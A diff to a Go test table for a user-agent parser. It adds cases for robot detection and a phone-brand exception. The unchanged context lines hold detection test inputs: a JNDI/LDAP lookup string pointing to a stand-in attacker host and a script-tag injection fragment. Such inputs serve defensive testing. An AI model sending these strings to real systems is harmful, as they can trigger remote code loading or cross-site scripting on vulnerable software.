@@ -123,6 +123,10 @@ func TestTableFactsReachTheAnalyzer(t *testing.T) {
 		{"Mozilla/5.0 (X11; Linux armv7l; Humax HGA12R) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/68.0.3440.106 Safari/537.36", "DeviceBrand", "Humax"},
 		// domain_brands.tsv (a robot whose contact is on Microsoft's link shortener)
 		{"Mozilla/5.0 (compatible; LinkCheck/2.1; +https://aka.ms/linkcheck)", "DeviceBrand", "Microsoft"},
+		// robot_words.tsv: a generic word, a product, an exception (a phone brand)
+		{"ExampleIndexer/1.0", "DeviceClass", "Robot"},
+		{"Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36 Prerender (+https://github.com/prerender/prerender)", "AgentClass", "Robot"},
+		{"Mozilla/5.0 (Linux; Android 10; CUBOT X30) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Mobile Safari/537.36", "DeviceClass", "Phone"},
 		// attack_signatures.tsv, one fragment of each family
 		{"Mozilla/5.0 ${jndi:ldap://attacker.example/a}", "HackerAttackVector", "Code Injection"},
 		{"Mozilla/5.0 (Windows NT 10.0; Win64; x64) <script>alert(1)</script>", "HackerAttackVector", "Code Injection"},
